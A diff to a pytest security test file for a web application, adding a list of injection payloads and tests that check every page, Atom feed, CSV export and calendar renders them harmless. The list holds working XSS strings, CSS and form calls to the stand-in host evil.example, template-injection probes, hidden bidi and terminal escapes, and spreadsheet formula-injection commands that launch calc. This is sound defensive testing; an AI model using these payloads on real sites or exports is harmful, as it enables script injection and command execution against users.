@@ -1,14 +1,19 @@
 """What the desk refuses: other pages' forms, other names, what is too large, ways out of its folders, hostile words."""
 
+import csv
+import io
 import re
 from html.parser import HTMLParser
 from pathlib import Path
+from urllib.parse import quote, urlencode
+from xml.etree import ElementTree
 
 import pytest
 from fastapi.routing import APIRoute
 from starlette.testclient import TestClient
 
 from sayso.ledger.adding import add_findings
+from sayso.records import Kind, WatchRule
 from sayso.settings import Settings
 from sayso.store import Ledger
 from sayso.web import app
@@ -16,6 +21,34 @@ from sayso.web.guard import LARGEST_FORM, LARGEST_UPLOAD, POLICY
 from sayso.web.serving import is_local
 from tests.store.made import Page
 from tests.web.conftest import HERE, Visitor
+
+#: What a page is attacked by: scripts, handlers, addresses that run, style sheets, drawings, forms, turned letters.
+ATTACKS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    '<a href="javascript:alert(3)">here</a>',
+    '<a href="JaVa&#115;cript:alert(3)">here</a>',
+    "<svg onload=alert(4)><animate attributeName=href values=javascript:alert(5) /></svg>",
+    "<svg><style>*{background:url(//evil.example/x)}</style><use href='data:image/svg+xml,x#y'/></svg>",
+    "<style>@import '//evil.example/x.css';*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<p style=\"background:url('//evil.example/x')\">red</p>",
+    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
+    "<object data=data:text/html,x></object><embed src=x>",
+    "<base href=//evil.example/><form action=//evil.example><button>go</button></form>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">',
+    '" onfocus=alert(8) autofocus x="',
+    "' onmouseover='alert(9)",
+    "{{ 7*7 }} ${7*7} <%= 7*7 %> [[ 7*7 ]]",
+    "]]> --> <![CDATA[<script>alert(10)</script>]]>",
+    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200f\u061c",
+    '=HYPERLINK("//evil.example","x") said Mirela',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
+)
 
 HOSTILE = (
     '<script>alert(1)</script> said <img src=x onerror=alert(2)> that <a href="javascript:alert(3)">this</a> and '
@@ -208,6 +241,64 @@ def test_a_hostile_page_is_inert_everywhere(visitor: Visitor, hostile: str) -> N
         assert ">49<" not in page
 
 
+@pytest.fixture
+def attacked(ledger: Ledger) -> list[str]:
+    """A report for each attack: in its title, its outlet, its words, a name, a place, a figure, a duty."""
+    made = []
+    for turn, attack in enumerate(ATTACKS):
+        words = f"that {attack} was hit by Vardonia on day {turn}"
+        text = f"{attack} said {words}. {turn + 2} boats {attack} must answer {attack} soon."
+        page = Page(text, title=f"{attack} {turn}", outlet=attack, published="2022-09-23")
+        page.says(attack, "said", words, "accuse", addressee=attack).place(attack, "XOS")
+        page.happens("hit", attack, attack, when="2022-09-20", by="s1").counts(f"{turn + 2} boats", turn + 2, attack)
+        page.owes(attack, "answer", "2022-10-05")
+        made.append(add_findings(ledger, page.findings).document)
+    for document in made:
+        ledger.note(document, ATTACKS[0], author=ATTACKS[1])
+        ledger.kept.skip(ATTACKS[3], ATTACKS[4], author=ATTACKS[5])
+    name = "<script>alert(1)</script>"
+    ledger.kept.save_search("Ada", name, name, "statement")
+    ledger.kept.put_rules((WatchRule(name, "hit", "event", None),), author=name)
+    return made
+
+
+def test_attacks_are_inert_on_every_page(visitor: Visitor, ledger: Ledger, attacked: list[str]) -> None:
+    places = ["/", "/stories", "/stories?q=hit", "/ledger", "/troubles", "/watch", "/map", "/due", "/review"]
+    places += [f"/search?q=hit&kind={one.value}" for one in Kind]
+    for document, attack in zip(attacked, ATTACKS, strict=True):
+        key = ledger.whole(document)[1].said[0].key
+        places += [f"/reports/{document}", f"/entries/{key}", f"/who?{urlencode({'name': attack})}"]
+        places += [f"/reports/{document}/words?{urlencode({'find': 'hit by'})}", f"/wordings/{key}"]
+        places += [f"/stories/{document}", f"/stories/{document}/brief", f"/draft/{document}"]
+        places += [f"/search?{urlencode({'q': attack.replace(chr(34), ' ')})}", f"/nothing/{quote(attack, safe='')}"]
+    for place in places:
+        answer = visitor.client.get(place)
+        assert answer.status_code in (200, 400, 404), (place, answer.status_code)
+        assert harmful(answer.text) == [], place
+        left = re.sub(r' value="[^"]*"', "", answer.text)
+        assert not set("\u202e\u202c\u2066\u200f\u061c\x1b\x07") & set(left), place
+        assert ">49<" not in answer.text
+        assert "49 49" not in answer.text
+
+
+def test_attacks_are_inert_in_what_is_taken_away(visitor: Visitor, attacked: list[str]) -> None:
+    for document in attacked:
+        brief = visitor.client.get(f"/stories/{document}/brief.html").text
+        assert harmful(re.sub(r"<style>.*?</style>", "", brief, count=1, flags=re.DOTALL)) == []
+    for place in ("/news.atom", "/news.atom?kind=events&q=hit", f"/watch.atom?{urlencode({'name': ATTACKS[0]})}"):
+        feed = ElementTree.fromstring(visitor.client.get(place).text)  # well-formed, whatever it holds
+        links = [one.get("href", "") for one in feed.iter("{http://www.w3.org/2005/Atom}link")]
+        assert all(one.startswith(("http://", "https://", "urn:")) for one in links)
+        kinds = {one.get("type") for one in feed.iter("{http://www.w3.org/2005/Atom}content")}
+        assert kinds <= {None, "text"}
+    for place in ("/search.csv?kind=statements&q=hit", "/stories.csv", "/troubles.csv", "/due.csv", "/map.csv"):
+        for row in csv.reader(io.StringIO(visitor.client.get(place).text)):
+            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))], place
+            assert not [cell for cell in row if re.match(r"-(?![\d.]+$)", cell)], place
+    calendar = visitor.client.get("/due.ics").text
+    assert all(re.match(r"[A-Z-]+[;:]| ", line) for line in calendar.splitlines())  # no line of an attack's own
+
+
 class _Tags(HTMLParser):
     """The tags and attributes of a page that could do something."""
 
@@ -278,3 +369,15 @@ def test_lines_of_the_log_hold_no_words(file: Path) -> None:
         client.get("/search?q=secretive")
     (line,) = log.getvalue().splitlines()
     assert json.loads(line) | {"ms": 0} == {"method": "GET", "path": "/search", "status": 200, "ms": 0}
+
+
+def test_head_is_answered_wherever_get_is(visitor: Visitor, documents: list[str]) -> None:
+    places = ("/", "/stories", f"/reports/{documents[0]}", "/search.json?q=ferry", "/due.ics", "/static/desk.css")
+    for place in (*places, "/healthz", "/openapi.json", "/nothing"):
+        got, head = visitor.client.get(place), visitor.client.head(place)
+        assert head.status_code == got.status_code, place
+        assert head.content == b"", place
+        assert head.headers["content-type"] == got.headers["content-type"], place
+        assert int(head.headers["content-length"]) > 0, place
+    assert visitor.client.head("/note").status_code == 405
+    assert 'method="HEAD"' in visitor.client.get("/metrics").text
